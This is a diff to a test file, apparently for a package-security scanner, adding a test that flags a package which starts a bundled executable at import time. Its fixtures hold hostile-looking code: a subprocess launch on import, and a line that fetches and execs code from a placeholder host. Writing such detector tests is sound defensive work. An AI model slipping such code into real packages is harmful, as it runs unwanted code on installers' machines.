@@ -134,6 +134,18 @@ def test_a_shipped_model_that_may_run_code_at_import_is_found(found: Found) -> N
     assert "unsafe-model-at-import" not in {finding.rule for finding in found(somebody_elses)}
 
 
+STARTED = "import os, subprocess\nsubprocess.Popen([os.path.join(os.path.dirname(__file__), 'data', 'marker.exe')])"
+
+
+def test_a_program_of_the_package_that_starts_at_import_is_found(found: Found) -> None:
+    shipped = {"pkg/__init__.py": STARTED, "pkg/data/marker.exe": "MZ"}
+    assert "shipped-program-at-import" in {finding.rule for finding in found(shipped)}
+    somebody_elses = {"pkg/__init__.py": STARTED}
+    assert "shipped-program-at-import" not in {finding.rule for finding in found(somebody_elses)}
+    asked = {"pkg/__init__.py": STARTED.replace("\nsub", "\ndef start():\n    sub"), "pkg/data/marker.exe": "MZ"}
+    assert "shipped-program-at-import" not in {finding.rule for finding in found(asked)}
+
+
 def test_what_runs_by_itself_is_graded_higher_than_what_somebody_must_call(found: Found) -> None:
     body = "import requests\ndef f():\n    exec(requests.get('https://host.invalid').text)\n"
     called, running = found(body), found(body + "f()\n")
@@ -161,5 +173,5 @@ def test_every_behaviour_rule_has_a_fixture(ruleset: Ruleset) -> None:
     own = {
         rule.id for rule in ruleset.rules.values() if rule.kind == "behaviour" and not rule.id.startswith("startup-")
     }
-    elsewhere = {"unsafe-model-at-import"}
+    elsewhere = {"unsafe-model-at-import", "shipped-program-at-import"}
     assert own - {rule for rule, _ in HITS} - set(BUILD_HITS) == elsewhere
